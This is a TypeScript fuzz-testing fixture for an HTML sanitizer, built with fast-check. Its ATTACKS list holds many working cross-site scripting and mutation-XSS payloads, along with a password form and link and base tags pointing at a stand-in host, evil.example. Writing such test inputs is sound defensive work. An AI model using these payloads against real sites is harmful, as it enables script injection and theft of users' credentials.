import fc from 'fast-check';

/** What has broken through cleaners before, ours or those of others. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '</textarea><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<p style="position:fixed;inset:0;z-index:9" id=csrf name=form_token onclick=alert(1)>x</p>',
  '<span class="btn-danger modal mention">x</span>',
  '<a href="https://a.example/" onclick=alert(1) target=_top id=x style=color:red download>x</a>',
  '<a href=https://a.example/"onmouseover=alert(1)>x</a>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>',
  '<object data=x><embed src=x><video src=x><audio src=x><picture><source srcset=x></picture>',
  '<!-- <p> --><![CDATA[<script>alert(1)</script>]]><?xml version="1.0"?><!doctype html>',
  '<table><td background=x>1</table><dialog open>2</dialog><marquee>3</marquee><plaintext>',
  '<p/onclick=alert(1)//>x<b\u0000onclick=alert(1)>y',
  '<<script>script>alert(1)<</script>/script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x&amp;gt; &#60;img src=x&#62;',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option><title>&lt;img src=x&gt;</title>',
];

const PIECES = [
  '<',
  '>',
  '"',
  '</p>',
  '</a>',
  '</li>',
  '</b>',
  '<p>',
  '<b>',
  '<ul>',
  '<li>',
  '<a href="https://a.example/">',
  '<h1>',
  '</h1>',
  '<br/>',
  '<blockquote>',
  '<pre>',
  'x',
];

/** HTML as nobody would write it, made of attacks, tags and text. */
export const remoteHtml: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 2, arbitrary: fc.constantFrom(...PIECES) },
      fc.constantFrom(...ATTACKS),
      fc.string({ maxLength: 12 }),
    ),
    {
      maxLength: 12,
    },
  )
  .map((pieces) => pieces.join(''));
